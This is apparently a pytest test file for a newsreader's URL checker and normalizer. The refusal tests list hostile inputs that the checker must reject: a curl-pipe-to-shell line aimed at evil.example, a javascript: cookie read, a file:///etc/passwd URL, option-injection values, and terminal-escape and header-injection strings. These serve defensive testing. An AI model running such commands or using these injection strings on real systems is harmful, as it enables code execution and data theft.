"""check_url refuses everything but plain http(s); normalize_url spots duplicates."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newsreader.core.urls import MAX_URL_LENGTH, check_url, is_safe_url, normalize_url


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/rss.xml",
        "http://example.org",
        "HTTPS://Example.ORG/feed?a=1&b=2#x",
        "https://user:secret@feeds.example:8443/private.xml",
        "https://[2001:db8::1]/feed",
        "https://bücher.example/neu",
        "https://example.org/" + "a" * (MAX_URL_LENGTH - len("https://example.org/")),
    ],
)
def test_accepts_plain_http_urls(url):
    assert check_url(url) is None
    assert is_safe_url(url)


@pytest.mark.parametrize(
    ("url", "reason_part"),
    [
        ("javascript:alert(document.cookie)", "javascript:"),
        ("JaVaScRiPt:alert(1)", "javascript:"),
        ("file:///etc/passwd", "file:"),
        ("data:text/html;base64,PHNjcmlwdD4=", "data:"),
        ("exec:~/bin/make-feed --all", "exec:"),
        ("filter:~/bin/rewrite:https://ok.example/rss", "filter:"),
        ('query:Unread:unread = "yes"', "query:"),
        ("|curl -s https://evil.example | sh", "pipe"),
        ("-new-window=https://evil.example/", "'-'"),
        ("--remote-debugging-port=9222", "'-'"),
        ("ftp://files.example/feed.xml", "ftp:"),
        ("gopher://old.example/", "gopher:"),
        ("https://spaces.example/a b", "whitespace"),
        ("https://tab.example/\tx", "whitespace"),
        (" https://lead.example/", "whitespace"),
        ("https://nl.example/\nSet-Cookie: x", "whitespace"),
        ("https://esc.example/\x1b]52;c;aGk=\x07", "control"),
        ("https://bidi.example/\u202egnp.exe", "control"),
        ("https://c1.example/\x9b31m", "control"),
        ("https://zero.example/\u200bwidth", "control"),
        ("https://good.example\\@evil.example/", "backslash"),
        ("http:example.org/rss", "no host"),
        ("https:///path-only", "no host"),
        ("//example.org/rss", "not an absolute"),
        ("/relative/rss.xml", "not an absolute"),
        ("", "empty"),
        ("https://example.org:99999/", "malformed"),
        ("https://example.org:0/feed", "port 0"),
        ("https://example.org/" + "a" * MAX_URL_LENGTH, "longer than"),
    ],
)
def test_refuses_with_a_one_line_reason(url, reason_part):
    reason = check_url(url)
    assert reason is not None
    assert reason_part in reason
    assert "\n" not in reason
    assert not is_safe_url(url)


def test_the_fetcher_applies_this_very_rule():
    """One rule for every boundary: the fetcher does not keep a second copy."""
    from newsreader.feeds import policy as fetchpolicy

    assert fetchpolicy.check_url is check_url


def test_non_string_is_refused_not_raised():
    assert check_url(None) == "not a string"  # type: ignore[arg-type]
    assert not is_safe_url(None)


def test_normalize_lowercases_scheme_and_host_and_drops_default_port_and_fragment():
    assert (
        normalize_url("HTTPS://News.Example.COM:443/Path/To?Q=Case#section")
        == "https://news.example.com/Path/To?Q=Case"
    )
    assert normalize_url("http://example.org:80") == "http://example.org/"
    assert normalize_url("http://example.org:8080/x") == "http://example.org:8080/x"


def test_normalize_drops_tracking_parameters_only():
    url = "https://example.org/a?utm_source=rss&id=7&UTM_Medium=x&fbclid=abc&gclid=z&q=a%20b&ref=home"
    assert normalize_url(url) == "https://example.org/a?id=7&q=a%20b&ref=home"
    assert normalize_url("https://example.org/a?utm_campaign=x") == "https://example.org/a"


def test_normalize_keeps_userinfo_case_and_ipv6():
    assert normalize_url("https://Me:PassWord@EX.example/") == "https://Me:PassWord@ex.example/"
    assert normalize_url("https://[2001:DB8::1]:443/f") == "https://[2001:db8::1]/f"


def test_normalize_makes_spellings_of_one_feed_equal():
    a = normalize_url("https://Feed.Example/rss.xml?utm_source=newsletter#top")
    b = normalize_url("https://feed.example:443/rss.xml")
    assert a == b


def test_normalize_never_raises_on_junk():
    assert normalize_url("  not a url  ") == "not a url"
    assert normalize_url("https://[broken/") == "https://[broken/"


_url_text = st.one_of(
    st.text(max_size=80),
    st.builds(
        lambda scheme, host, path: f"{scheme}://{host}{path}",
        st.sampled_from(["http", "https", "HTTP", "javascript", "file", "exec", "ftp", "feed"]),
        st.text(alphabet="abcXYZ.-:[]@0123456789", min_size=0, max_size=20),
        st.text(max_size=40),
    ),
)


@settings(max_examples=400, deadline=None)
@given(_url_text)
def test_property_check_url_never_raises_and_accepts_only_clean_http(url):
    reason = check_url(url)
    assert reason is None or (isinstance(reason, str) and reason and "\n" not in reason)
    if reason is None:
        assert url.lower().startswith(("http://", "https://"))
        assert not url.startswith("-")
        assert not any(ch.isspace() or ord(ch) < 32 or 0x7F <= ord(ch) <= 0x9F for ch in url)
        assert len(url) <= MAX_URL_LENGTH
        # normalising an acceptable URL keeps it acceptable, and is stable
        normal = normalize_url(url)
        assert normalize_url(normal) == normal
        assert check_url(normal) is None or len(normal) > MAX_URL_LENGTH
